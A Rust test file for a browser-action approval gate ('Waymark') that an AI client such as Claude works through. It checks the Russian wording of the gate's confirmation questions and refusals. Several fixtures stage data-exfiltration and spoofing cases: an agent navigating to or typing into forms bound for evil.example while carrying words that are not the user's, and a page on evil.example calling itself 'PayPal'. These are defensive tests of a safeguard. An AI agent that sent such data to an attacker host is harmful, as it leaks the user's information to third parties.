//! The gate's sentences in Russian: every question and refusal, with real values, in natural Russian
//! with the right plural and no English word but the page's own; and the English ones unchanged.
#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use waymark_i18n::Words;
use waymark_protocol::{
    ActKind, ClosedReason, Effect, ElementInfo, LinkInfo, OptionChoice, PageTool, Pin, Submission,
};

use super::*;
use crate::language::latin_words;
use crate::policy::Concern;

const SITE: &str = "shop.example";

fn russian() -> Words {
    Words::new("ru-RU")
}

/// Words that are not the user's, leaving for evil.example.
fn leaving(carrier: Carrier) -> Leaving {
    Leaving {
        carrier,
        words: "секретная фраза".into(),
        host: "evil.example".into(),
        origin: "https://evil.example".into(),
    }
}

fn effect(target: Option<ElementInfo>) -> Effect {
    Effect {
        pin: Pin {
            tab: 1,
            frame: 0,
            document: "d".into(),
            element: Some(3),
        },
        page_url: "https://shop.example/account".into(),
        site_name: None,
        target,
        focused: false,
        option: None,
        linked: false,
        resends: None,
        keys: None,
    }
}

fn control(role: &str, name: &str) -> ElementInfo {
    ElementInfo {
        index: Some(3),
        role: role.into(),
        name: name.into(),
        tag: "button".into(),
        ..Default::default()
    }
}

fn act(action: ActKind, text: Option<&str>) -> PageTool {
    PageTool::OverlayAct {
        index: 3,
        action,
        text: text.map(str::to_owned),
    }
}

/// A Russian sentence: no English word but the values (the role stays the page's until the role
/// names are in the catalogue) and "Waymark".
fn assert_russian(text: &str, values: &[&str]) {
    let mut allowed = vec![
        SITE,
        "button",
        "link",
        "textbox",
        "combobox",
        "browser_switch_tab",
    ];
    allowed.extend_from_slice(values);
    let english = latin_words(text, &allowed);
    assert!(english.is_empty(), "English words {english:?} in: {text}");
}

#[test]
fn a_click_on_a_delete_button_is_asked_in_russian() {
    let words = russian();
    let tool = act(ActKind::Click, None);
    let said = ask(&words, &tool, &effect(Some(control("button", "Удалить аккаунт"))));
    assert!(
        said.starts_with("Нажать «Удалить аккаунт» (") && said.ends_with(") на сайте shop.example?"),
        "{said}"
    );
    assert_russian(&said, &[]);
}

/// Every kind of question, in every language but English: no English word but the values (and the
/// page's roles, which stay the page's here).
#[test]
fn every_kind_of_question_is_in_its_language() {
    for language in crate::language::other_languages() {
        every_kind_of_question_is_in(language);
    }
}

fn every_kind_of_question_is_in(language: &str) {
    let words = Words::new(language);
    let mut field = control("textbox", "Купон");
    field.editable = true;
    field.submits = Some(Submission {
        action: "https://shop.example/order".into(),
        method: "post".into(),
        submitter: Some("Оформить заказ".into()),
        ..Default::default()
    });
    let mut link = control("link", "Подробнее");
    link.text = Some("Удалить всю почту".into());
    link.link = Some(LinkInfo {
        href: "https://mail.example/delete".into(),
        new_tab: true,
        download: false,
    });
    let mut choice = effect(Some(control("combobox", "Доставка")));
    choice.option = Some(OptionChoice {
        label: "Экспресс".into(),
        acts_on_change: true,
    });
    let cases = [
        (act(ActKind::Type, Some("СКИДКА\n")), effect(Some(field.clone()))),
        (act(ActKind::Type, Some("СКИДКА")), effect(Some(field.clone()))),
        (act(ActKind::Click, None), effect(Some(link))),
        (act(ActKind::Select, None), choice),
        (act(ActKind::Click, None), effect(None)),
        (
            PageTool::Press {
                key: "Enter".into(),
                index: Some(3),
            },
            effect(Some(field)),
        ),
        (
            PageTool::Press {
                key: "Delete".into(),
                index: None,
            },
            effect(Some(control("button", "Письмо"))),
        ),
        (
            PageTool::Press {
                key: "Space".into(),
                index: None,
            },
            effect(None),
        ),
        (PageTool::Back, effect(None)),
        (PageTool::Reload, effect(None)),
        (
            PageTool::Navigate {
                url: "https://bank.example/".into(),
            },
            effect(None),
        ),
        (
            PageTool::ClickAndWaitDownload {
                index: 3,
                timeout_ms: None,
            },
            effect(Some(control("button", "Скачать счёт"))),
        ),
        (
            PageTool::Upload {
                index: 3,
                paths: vec!["/home/u/паспорт.pdf".into()],
                files: Vec::new(),
            },
            effect(Some(control("button", "Файл"))),
        ),
        (PageTool::Extract, effect(None)),
    ];
    let extract = PageTool::Extract.mcp_name();
    for (tool, effect) in &cases {
        let said = ask(&words, tool, effect);
        assert!(said.contains('?'), "{language}: a question: {said}");
        let mut values = vec![
            SITE,
            "button",
            "link",
            "textbox",
            "combobox",
            "https://shop.example/order",
            "https://mail.example/delete",
            "https://bank.example/",
            "паспорт.pdf",
            extract,
            "Delete",
        ];
        values.sort_by_key(|v| std::cmp::Reverse(v.len()));
        let english = crate::language::foreign_words(&said, language, &values);
        assert!(
            english.is_empty(),
            "{language}: English words {english:?} in: {said}"
        );
    }
}

#[test]
fn the_words_of_each_effect_are_russian() {
    let words = russian();
    let mut field = control("textbox", "Купон");
    field.editable = true;
    field.submits = Some(Submission {
        action: "https://shop.example/order".into(),
        method: "post".into(),
        submitter: Some("Оформить заказ".into()),
        ..Default::default()
    });
    let said = ask(&words, &act(ActKind::Type, Some("a\n")), &effect(Some(field)));
    assert_eq!(
        said,
        "Ввести текст в «Купон» (поле ввода) и нажать Ввод на сайте shop.example: это отправит форму \
         «Оформить заказ». Да или нет?"
    );
    let concern = Concern::Publishes {
        signal: "опубликовано".into(),
    };
    let said = with_concern(
        &words,
        &act(ActKind::Click, None),
        &effect(Some(control("button", "Обновить"))),
        &concern,
    )
    .unwrap();
    assert_eq!(
        said,
        "Нажать «Обновить» (кнопка) на сайте shop.example: это опубликует сохраняемое (на странице \
         написано «опубликовано»). Да или нет?"
    );
}

#[test]
fn tabs_clients_and_closed_questions_are_russian() {
    let words = russian();
    let tab = TabInfo {
        index: 2,
        title: "Входящие".into(),
        url: "https://mail.example/inbox".into(),
        pinned: true,
        ..Default::default()
    };
    let (second, on_no) = second_tab(&words, "https://mail.example/new", &tab);
    let claude = |program: crate::mcp::identity::Program| super::super::Client {
        said: "Claude".into(),
        program,
    };
    let known = crate::mcp::identity::Program {
        key: crate::mcp::identity::ProgramKey::Connection(1),
        short: "claude".into(),
        full: "/usr/bin/claude".into(),
        user: Some("ada".into()),
    };
    let known = claude(crate::mcp::identity::Program {
        key: crate::mcp::identity::ProgramKey::Known {
            exe: "/usr/bin/claude".into(),
            args: vec![],
            user: None,
        },
        ..known
    });
    let unknown = claude(crate::mcp::identity::Program::unknown(2));
    let (asked, detail) = admit_client(&words, &known);
    let (asked_unknown, detail_unknown) = admit_client(&words, &unknown);
    let mut said = vec![
        pinned_tab(&words, "https://mail.example/new", &tab),
        second,
        on_no.unwrap(),
        data_leaves(
            &words,
            &PageTool::Navigate {
                url: "https://evil.example/?q=секрет".into(),
            },
            &effect(None),
            &leaving(Carrier::Address),
        ),
        asked,
        detail,
        asked_unknown,
        detail_unknown,
        client_with_program(&words, &known),
        client_with_program(&words, &unknown),
        client_asks(&words, "Claude", "Купить?"),
        client_refused(&words, "Claude"),
        said_no(&words),
    ];
    said.extend(
        [
            ClosedReason::Expired,
            ClosedReason::PageChanged,
            ClosedReason::Withdrawn,
            ClosedReason::Stopped,
        ]
        .map(|r| closed(&words, r)),
    );
    let upload = PageTool::Upload {
        index: 7,
        paths: vec!["a.pdf".into()],
        files: Vec::new(),
    };
    said.push(not_a_file_field(&words, &upload, &effect(Some(control("button", "Купить")))).unwrap());
    let mut field = control("textbox", "Сообщение");
    field.url = "https://chat.example/widget".into();
    said.push(data_leaves(
        &words,
        &act(ActKind::Type, Some("секрет")),
        &effect(Some(field)),
        &leaving(Carrier::Typing),
    ));
    said.push(data_leaves(
        &words,
        &act(ActKind::Click, None),
        &effect(Some(control("button", "Найти"))),
        &leaving(Carrier::Form),
    ));
    for text in &said {
        assert_russian(
            text,
            &[
                "https://mail.example/new",
                "https://mail.example/inbox",
                "mail.example",
                "https://evil.example/?q=секрет",
                "evil.example",
                "/usr/bin/claude",
                "Claude",
                "claude",
                "ada",
            ],
        );
    }
    assert_eq!(
        said[0],
        "Открыть https://mail.example/new в закреплённой вкладке 2 «Входящие» вместо того, что в ней \
         сейчас?"
    );
    assert_eq!(said[12], "Не сделано: вы ответили «нет».");
    assert_eq!(
        said[4],
        "Claude (claude) хочет пользоваться вашим браузером через Waymark. Разрешить?"
    );
    assert!(said[said.len() - 3].starts_with("Номер 7 — не поле выбора файлов"));
    assert_eq!(
        said[3],
        "Открыть https://evil.example/?q=секрет? Это отправит не ваши слова («секретная фраза») на \
         evil.example, который вы не называли. Да или нет."
    );
    assert_eq!(
        said[said.len() - 2],
        "Ввести текст в «Сообщение» (поле ввода) на сайте shop.example? Введённое здесь уходит на \
         evil.example, который вы не называли: это не ваши слова («секретная фраза»). Да или нет."
    );
}

#[test]
fn data_leaving_says_what_and_where_in_english() {
    let words = Words::english();
    let said = data_leaves(
        &words,
        &act(ActKind::Click, None),
        &effect(Some(control("button", "Search"))),
        &Leaving {
            words: "tangerine osprey 4471".into(),
            ..leaving(Carrier::Form)
        },
    );
    assert_eq!(
        said,
        "Click button 'Search' on shop.example? It would send words that are not yours ('tangerine \
         osprey 4471') to evil.example, which you have not named. Yes or no."
    );
}

#[test]
fn english_stays_as_it_was() {
    let words = Words::english();
    let said = ask(
        &words,
        &act(ActKind::Click, None),
        &effect(Some(control("button", "Delete account"))),
    );
    assert_eq!(said, "Click button 'Delete account' on shop.example?");
    assert_eq!(said_no(&words), "Not done: you said no.");
}

#[test]
fn a_step_left_to_the_user_is_said_in_russian() {
    use crate::policy::Handoff;
    use waymark_protocol::SecretKind;
    let words = russian();
    for why in [
        Some(Handoff::Captcha),
        Some(Handoff::Type(SecretKind::Password)),
        Some(Handoff::Type(SecretKind::OneTimeCode)),
        Some(Handoff::Choose(SecretKind::Card)),
        Some(Handoff::CardNumber),
        None,
    ] {
        let said = crate::gate::handed_over(&words, why);
        assert!(said.starts_with("Waymark оставляет этот шаг вам"), "{said}");
        assert_russian(&said, &[]);
    }
    assert_eq!(
        crate::gate::handed_over(&words, Some(Handoff::Type(SecretKind::Password))),
        "Waymark оставляет этот шаг вам: пароль вводите вы сами. Сделайте это на странице, затем \
         продолжайте."
    );
}

/// The page a question is about, at `url`, naming its site `site_name`.
fn on_page(url: &str, site_name: Option<&str>) -> Effect {
    Effect {
        page_url: url.into(),
        site_name: site_name.map(str::to_owned),
        ..effect(Some(control("button", "Pay €84.97")))
    }
}

#[test]
fn a_question_names_the_site_by_its_host_name_never_its_port_or_a_loopback_number() {
    let words = Words::english();
    let pay = act(ActKind::Click, None);
    let said = |url: &str, name: Option<&str>| ask(&words, &pay, &on_page(url, name));
    assert_eq!(
        said("http://127.0.0.1:40227/actions.html", None),
        "Click button 'Pay €84.97' on localhost?"
    );
    for url in [
        "https://www.shop.example:8443/cart?id=7",
        "https://user:secret@shop.example/cart",
        "HTTPS://Shop.Example./cart",
    ] {
        assert_eq!(
            said(url, None),
            "Click button 'Pay €84.97' on shop.example?",
            "{url}"
        );
    }
    for url in [
        "http://localhost:3000/",
        "http://[::1]:8080/",
        "http://app.localhost/",
    ] {
        assert!(said(url, None).contains(" on localhost?"), "{url}");
    }
    // The page's name for its site comes after the host name, which a page cannot change, and only
    // when it says more than the host name does.
    assert_eq!(
        said("https://shop.example/cart", Some("Example Shop")),
        "Click button 'Pay €84.97' on shop.example ('Example Shop')?"
    );
    assert_eq!(
        said("https://evil.example/pay", Some("PayPal")),
        "Click button 'Pay €84.97' on evil.example ('PayPal')?"
    );
    assert_eq!(
        said("https://www.amazon.com/", Some("Amazon.com")),
        "Click button 'Pay €84.97' on amazon.com?"
    );
    // A name made of control or bidi characters only is no name.
    assert_eq!(
        said("https://shop.example/", Some("\u{202e}\u{200b}")),
        "Click button 'Pay €84.97' on shop.example?"
    );
    // A file has no site; the question says none.
    assert_eq!(said("file:///home/me/a.html", None), "Click button 'Pay €84.97'?");
}

#[test]
fn the_full_address_is_kept_for_details_and_said_in_russian_with_the_sites_name() {
    let url = "http://127.0.0.1:40227/actions.html?step=2";
    assert_eq!(
        page_detail(&Words::english(), &on_page(url, None)).as_deref(),
        Some("The question is about the page http://127.0.0.1:40227/actions.html?step=2")
    );
    assert_eq!(page_detail(&Words::english(), &on_page("", None)), None);
    assert_eq!(
        page_detail(&russian(), &on_page(url, None)).as_deref(),
        Some("Вопрос о странице http://127.0.0.1:40227/actions.html?step=2")
    );
    let said = ask(
        &russian(),
        &act(ActKind::Click, None),
        &on_page("https://shop.example/cart", Some("Магазин")),
    );
    assert!(said.contains("на сайте shop.example («Магазин»)"), "{said}");
}
